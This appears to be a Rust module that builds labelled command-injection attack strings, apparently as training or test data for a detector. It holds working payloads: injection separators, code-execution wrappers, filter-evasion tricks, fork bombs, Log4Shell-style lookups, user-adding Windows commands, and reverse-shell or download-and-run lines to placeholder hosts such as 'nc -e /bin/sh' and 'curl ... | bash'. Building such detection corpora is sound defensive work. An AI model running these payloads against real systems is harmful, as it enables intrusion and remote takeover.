//! Attacks on a shell in our own wording.

use super::own::{fill, lines};

/// Category, family, texts.
pub(crate) fn families() -> Vec<(&'static str, &'static str, Vec<String>)> {
    let commands = [
        "id",
        "whoami",
        "ls -la",
        "uname -a",
        "cat /etc/hosts",
        "ping -c 2 10.1.1.1",
        "dir",
        "netstat -an",
        "ipconfig",
        "ps aux",
        "ifconfig",
        "pwd",
        "sleep 4",
        "net user",
        "type C:\\x.txt",
        "nc 10.2.2.2 90",
    ];
    vec![
        (
            "command",
            "separated",
            fill(
                &[
                    "; @",
                    ";@",
                    "| @",
                    "|@",
                    "|| @",
                    "& @",
                    "&& @ #",
                    "x;@",
                    "x|@|",
                    "\n@",
                    "` @ `",
                    "$(@)",
                    "'; @ #",
                    "\"|@",
                    "a);@",
                    "host.org;@;",
                    "+|+@",
                    "&@&",
                    "`@`",
                    "\\n@\\n",
                    "<!--#exec cmd=\"@\"-->",
                ],
                &commands,
            ),
        ),
        (
            "command",
            "code",
            fill(
                &[
                    "system('@')",
                    "; system('@');",
                    "<?php passthru(\"@\");?>",
                    "shell_exec('@')",
                    "exec(\"@\");",
                    "<?=`@`?>",
                    "{{''.__class__}}@",
                    "() { :; }; @",
                    "x() { @ & }; x",
                    "__import__('os').system('@')",
                    "${@system('@')}",
                    "Runtime.getRuntime().exec(\"@\")",
                ],
                commands.get(..8).unwrap_or(&[]),
            ),
        ),
        (
            "command",
            "windows",
            lines(
                "for %q in (x,y) do cmd
FOR /L %n IN (1,1,9) DO echo %n
& for /f \"delims=,\" %p in ('dir /b') do echo %p
for /r %v in (*.log) do del %v
FOR /D %%k IN (*) DO (rd %%k)
for %thing in (stuff) do something
if not \"%2\" == \"\" goto end
if (B) == (B) echo equal
if not (3 equ 3) echo no
if \"%X%\" == \"y\" (
if exist C:\\a.txt del C:\\a.txt
if not {%2} == {} exit
& reg query \"HKLM\\Software\\Vendor Name\" /v Key
| net user eve Passw0rd /add
&& net localgroup Users eve /ADD
| type %WINDIR%\\win.ini
& dir C:\\Users\\Public\\*
powershell -enc SQBFAFgA
powershell.exe -nop -w hidden -c iex
cmd.exe /c whoami
& ver
| systeminfo
& tasklist /v
schtasks /create /tn x /tr y
certutil -urlcache -f http://10.9.9.9/x.exe x.exe
iwr http://10.9.9.9/a.ps1
rundll32 shell32.dll,Control_RunDLL x.cpl",
            ),
        ),
        (
            "command",
            "evasion",
            lines(
                "w'h'oami
c\\at /etc/hosts
who$@ami
l''s -la
p\"i\"ng 10.1.1.1
c$*at /et$*c/hosts
u\\name -a
cat${IFS}/etc/hosts
;cat$IFS/etc/hosts
{ls,-la}
/b?n/l?
/???/c?t /???/p??s??
echo ${PATH:0:1}
${HOME:0:1}
echo d2hvYW1p | base64 -d | sh
cat<<<\"$(id)\"
bash<<<$(date)
X=$'id';$X
;A=$'ls';$A
a=who&&b=ami&&$a$b
^Q=$'uname';$Q
alias zz=id;zz
alias kk=env&kk id
alias q=w${NOPE}get
$(echo $(id))
$($(id))
`$(ls)`
${`uname`}
$SHELL -c \"id\"
$0 -c id
.(){ .|.&};.
f(){ f|f& };f
() { ignored; }; /bin/sh -c id
rev<<<'di'
py\"\"thon3 -c 'print(1)'
/usr/bin/i[d]
/bin/[c]at /etc/hosts
n\\c -e /bin/sh 10.3.3.3 7
eve@box:~$ id
root@srv:/# ls
me@pc:~$ echo ${PWD:0:1}
exec 5<>/dev/tcp/10.4.4.4/80
0<&196;exec 196<>/dev/tcp/10.4.4.4/9;
{${phpinfo()}}
${@print(1)}
#{7*7}
<%= system('id') %>
{{7*7}}
{{config.items()}}
${T(java.lang.Runtime).getRuntime().exec('id')}
${jndi:ldap://10.5.5.5/a}",
            ),
        ),
        (
            "command",
            "lines",
            lines(
                "curl -s http://10.6.6.6/x | bash
nc -e /bin/sh 10.6.6.6 99
ncat 10.6.6.6 99 -e cmd
bash -i >& /dev/tcp/10.6.6.6/99 0>&1
python3 -c 'import os'
perl -e 'print 1'
ruby -rsocket -e 'exit'
php -r 'system(1);'
busybox nc 10.6.6.6 99
phpinfo()
;ex +w a b wq
RCPT TO:<root@box>
MAIL FROM:<a@b.c>
\r\nVRFY root
time; uname",
            ),
        ),
    ]
}
